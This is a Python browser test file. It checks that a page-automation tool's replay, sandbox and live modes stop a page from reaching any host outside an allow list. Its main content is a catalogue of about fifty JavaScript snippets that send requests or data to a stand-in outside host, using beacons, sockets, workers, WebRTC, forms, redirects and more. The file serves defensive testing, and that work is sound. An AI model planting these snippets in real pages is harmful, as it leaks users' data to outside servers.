"""Whatever a page tries, in every mode: listeners that stand for the rest of the world hear nothing."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack, contextmanager, nullcontext, suppress
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser
from tests.replay.little_site import LittleSite

from casewright.browser.launch import FoundBrowser
from casewright.flow.page_owner import Owner
from casewright.flow.window import Open, Press, Target, WindowError
from casewright.recording.exchange import Answer
from casewright.site.live import identity
from casewright.site.open import Ground, Opener, OpenVisit, Profile
from casewright.site.replay import Replay
from casewright.site.sandbox import Sandbox
from casewright.site.served_pages import Through
from casewright.site.server import serve

pytestmark = pytest.mark.browser

GO = Press(Target("page.go", "button", ("Go",)))

# Each tries to reach OUT, a listener on this machine that stands for a host that is not on the list.
WAYS = {
    "image": "new Image().src = 'http://OUT/image'",
    "fetch": "fetch('http://OUT/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "fetch over https": "fetch('https://OUT/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "kept alive": "fetch('http://OUT/alive', {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "request": "{ const x = new XMLHttpRequest(); x.open('POST', 'http://OUT/xhr'); x.send('all'); }",
    "beacon": "navigator.sendBeacon('http://OUT/beacon', 'all')",
    "events": "new EventSource('http://OUT/events')",
    "socket": "new WebSocket('ws://OUT/socket')",
    "secure socket": "new WebSocket('wss://OUT/socket')",
    "script": "document.body.append(Object.assign(document.createElement('script'), {src: 'http://OUT/script'}))",
    "module": "import('http://OUT/module').catch(() => 0)",
    "style": "document.body.insertAdjacentHTML('beforeend', '<style>@import \"http://OUT/style\"</style>')",
    "style sheet": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=http://OUT/sheet>')",
    "font": "new FontFace('x', 'url(http://OUT/font)').load().catch(() => 0)",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=http://OUT/frame></iframe>')",
    "object": "document.body.insertAdjacentHTML('beforeend', '<object data=http://OUT/object></object>')",
    "embed": "document.body.insertAdjacentHTML('beforeend', '<embed src=http://OUT/embed>')",
    "picture": "document.body.insertAdjacentHTML('beforeend', '<picture><source srcset=http://OUT/source><img></picture>')",
    "video": "document.body.insertAdjacentHTML('beforeend', '<video autoplay src=http://OUT/video></video>')",
    "sound": "new Audio('http://OUT/sound').play().catch(() => 0)",
    "track": "document.body.insertAdjacentHTML('beforeend', '<video src=/v><track default src=http://OUT/track></video>')",
    "background": "document.body.style.background = 'url(http://OUT/background)'",
    "cursor": "document.body.style.cursor = 'url(http://OUT/cursor), auto'",
    "icon": "document.head.insertAdjacentHTML('beforeend', '<link rel=icon href=http://OUT/icon>')",
    "manifest": "document.head.insertAdjacentHTML('beforeend', '<link rel=manifest href=http://OUT/manifest>')",
    "preload": "document.head.insertAdjacentHTML('beforeend', '<link rel=preload as=script href=http://OUT/preload>')",
    "module preload": "document.head.insertAdjacentHTML('beforeend', '<link rel=modulepreload href=http://OUT/mp>')",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=http://OUT/prefetch>')",
    "preconnect": "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=http://OUT>')",
    "name look-up": "document.head.insertAdjacentHTML('beforeend', '<link rel=dns-prefetch href=http://OUT>')",
    "prerender": "document.head.insertAdjacentHTML('beforeend', '<link rel=prerender href=http://OUT/prerender>')",
    "speculation rules": (
        "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', "
        'textContent: \'{"prefetch": [{"source": "list", "urls": ["http://OUT/rules"]}], '
        '"prerender": [{"source": "list", "urls": ["http://OUT/rules2"]}]}\'}))'
    ),
    "ping": "{ const a = Object.assign(document.createElement('a'), {href: '#x', ping: 'http://OUT/ping'}); "
    "document.body.append(a); a.click(); }",
    "popup": "window.open('http://OUT/popup')",
    "popup without an opener": "window.open('http://OUT/popup2', '', 'noopener')",
    "popup by a link": "{ const a = Object.assign(document.createElement('a'), {href: 'http://OUT/link', target: '_blank'}); "
    "document.body.append(a); a.click(); }",
    "popup that is written": "{ const w = window.open(''); if (w) w.document.write('<img src=http://OUT/written>'); }",
    "form in a new window": "document.body.insertAdjacentHTML('beforeend', "
    "'<form target=_blank action=http://OUT/form><button id=form>f</button></form>'); document.getElementById('form').click()",
    "worker's fetch": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://OUT/worker', {mode: 'no-cors'}).catch(() => 0)\"])))",
    "worker's socket": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://OUT/worker')\"])))",
    "worker's import": "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://OUT/imported')\"])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://OUT/shared').catch(() => 0)\"])))",
    "service worker": "navigator.serviceWorker?.register('/worker.js').catch(() => 0)",
    "video call": "{ const p = new RTCPeerConnection({iceServers: [{urls: 'stun:OUT'}, {urls: 'turn:OUT?transport=tcp', "
    "username: 'u', credential: 'c'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); }",
    "transport": "try { new WebTransport('https://OUT/transport').ready.catch(() => 0) } catch { 0 }",
    "redirect of an image": "new Image().src = '/away'",
    "redirect of a fetch": "fetch('/away', {mode: 'no-cors'}).catch(() => 0)",
    "redirect of a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=/away></iframe>')",
    "frame that goes on": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<meta http-equiv=refresh content=0;url=http://OUT/meta>\"></iframe>')",
    "report": "fetch('/reports').catch(() => 0)",
}
"""Ways that leave the page where it is; those that lead it away are tried one at a time below."""
LEADS_AWAY = {
    "address": "location.href = 'http://OUT/address'",
    "redirect": "location.href = '/away'",
    "refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=http://OUT/r\">')",
    "download": "{ const a = Object.assign(document.createElement('a'), {href: 'http://OUT/file', download: 'x'}); "
    "document.body.append(a); a.click(); }",
    "form": "document.body.insertAdjacentHTML('beforeend', '<form method=post action=http://OUT/form><input name=a></form>'); "
    "document.forms[0].submit()",
}


@dataclass
class World:
    """Everything that is not on the list: TCP and UDP on addresses of this machine, and what was heard there."""

    address: str
    heard: list[bytes] = field(default_factory=list)


@pytest.fixture
def world() -> Iterator[World]:
    """`CASEWRIGHT_TEST_WORLD` names an address at which somebody else listens (`sealed_namespace.py`)."""
    with socket.create_server(("127.0.0.1", 0)) as listener, socket.socket(type=socket.SOCK_DGRAM) as datagrams:
        port = listener.getsockname()[1]
        datagrams.bind(("127.0.0.1", port))
        told = World(os.environ.get("CASEWRIGHT_TEST_WORLD") or f"127.0.0.1:{port}")

        def accept() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = listener.accept()
                    with connection:
                        connection.settimeout(1)
                        with suppress(OSError):
                            told.heard.append(b"connection: " + connection.recv(200))

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield told
        datagrams.setblocking(False)
        with suppress(BlockingIOError):
            told.heard.append(b"datagram: " + datagrams.recv(200))
        listener.shutdown(socket.SHUT_RDWR)
        thread.join()


@dataclass
class SystemsProxy:
    """A proxy as a system may have one: it leads anywhere, and remembers where it was asked to."""

    address: str = ""
    asked: list[str] = field(default_factory=list)


@contextmanager
def systems_proxy() -> Iterator[SystemsProxy]:
    told = SystemsProxy()

    def carry(source: socket.socket, to: socket.socket) -> None:
        with suppress(OSError):
            while data := source.recv(65_536):
                to.sendall(data)
        with suppress(OSError):
            to.shutdown(socket.SHUT_WR)

    def serve_one(connection: socket.socket) -> None:
        with connection, suppress(OSError):
            head = b""
            while not head.endswith(b"\r\n\r\n"):
                head += connection.recv(1)
            target = head.split(b" ")[1].decode()
            told.asked.append(target)
            host, _, port = target.rpartition(":")
            with socket.create_connection((host, int(port))) as outside:
                connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
                back = threading.Thread(target=carry, args=(outside, connection), daemon=True)
                back.start()
                carry(connection, outside)
                back.join()

    with socket.create_server(("127.0.0.1", 0)) as listener:
        told.address = f"http://127.0.0.1:{listener.getsockname()[1]}"

        def accept() -> None:
            with suppress(OSError):
                while True:
                    threading.Thread(target=serve_one, args=(listener.accept()[0],), daemon=True).start()

        threading.Thread(target=accept, daemon=True).start()
        yield told
        listener.shutdown(socket.SHUT_RDWR)


def page_that(tries: list[str], world: World) -> str:
    every = "".join(f"try {{ {attempt} }} catch {{ 0 }}\n" for attempt in tries).replace("OUT", world.address)
    return (
        "<button>Go</button><h1 id=said>waiting</h1><script>document.querySelector('button').onclick = () => {"
        f"{every} setTimeout(() => {{ said.textContent = 'tried'; }}, 500) }}</script>".replace(
            "</script>'", "<\\/script>'"
        )
    )


def site_that(tries: list[str], world: World) -> LittleSite:
    away = Answer(status=302, headers={"Location": f"http://{world.address}/after"})
    policy = {"Content-Security-Policy": f"img-src 'none'; report-uri http://{world.address}/report"}
    return LittleSite(
        {"/": page_that(tries, world), "/away": away, "/reports": Answer(headers=policy, body=b"<img src=/x>")}
    )


Mode = Callable[[LittleSite], AbstractContextManager[OpenVisit]]


@pytest.fixture(params=["replay", "sandbox", "live", "live behind a proxy"])
def mode(request: pytest.FixtureRequest, found: FoundBrowser, chromium: Browser, tmp_path: Path) -> Iterator[Mode]:
    """A way of visiting a little site; each as the program does it."""
    opener = Opener(found, patience=60, running=chromium)
    with ExitStack() as stack:
        told = stack.enter_context(systems_proxy()) if request.param == "live behind a proxy" else None

        @contextmanager
        def live(site: LittleSite) -> Iterator[OpenVisit]:
            with serve(site.respond) as server:
                host = server.url.removeprefix("http://")
                ground = Ground(
                    server.url,
                    Through("http", (host,)),
                    Owner("Seller", "US"),
                    attended=True,
                    profile=Profile(identity(), frozenset({"127.0.0.1"})),
                )
                shown = Opener(found, patience=60, headless=True, upstream=told.address if told else None)
                with shown.visit(ground, tmp_path) as visit:
                    yield visit
                if told:
                    assert set(told.asked) == {host}, "the system's proxy is asked for nothing but what is listed"

        def replay(site: LittleSite) -> AbstractContextManager[OpenVisit]:
            return Replay(opener, lambda *_: site.respond).visit("Seller", "US", tmp_path)

        @contextmanager
        def sandbox(site: LittleSite) -> Iterator[OpenVisit]:
            with serve(site.respond) as server:
                practice = Sandbox(opener, lambda *_: nullcontext(server.url))
                with practice.visit("Seller", "US", tmp_path) as visit:
                    yield visit

        yield {"replay": replay, "sandbox": sandbox}.get(request.param, live)


def test_fifty_ways_out_at_once_lead_nowhere(mode: Mode, world: World) -> None:
    site = site_that([*WAYS.values()], world)
    with mode(site) as visit:
        visit.window.do(Open("/"))
        visit.window.do(GO)
        seen = visit.window.look()
        for _ in range(20):
            if 'heading "tried"' in seen.text:
                break
            seen = visit.window.look(unlike=seen)
        count = visit.guard()

    assert 'heading "tried"' in seen.text
    assert world.heard == []
    assert count.left == 0
    assert count.refused > 10


@pytest.mark.parametrize("way", LEADS_AWAY)
def test_a_page_that_leads_away_leads_nowhere(way: str, mode: Mode, world: World) -> None:
    with mode(site_that([LEADS_AWAY[way]], world)) as visit:
        visit.window.do(Open("/"))
        with suppress(WindowError):
            visit.window.do(GO)
            seen = visit.window.look()
            while 'heading "tried"' not in seen.text and 'heading "waiting"' in seen.text:
                seen = visit.window.look(unlike=seen)
        count = visit.guard()

    assert world.heard == []
    assert count.left == 0
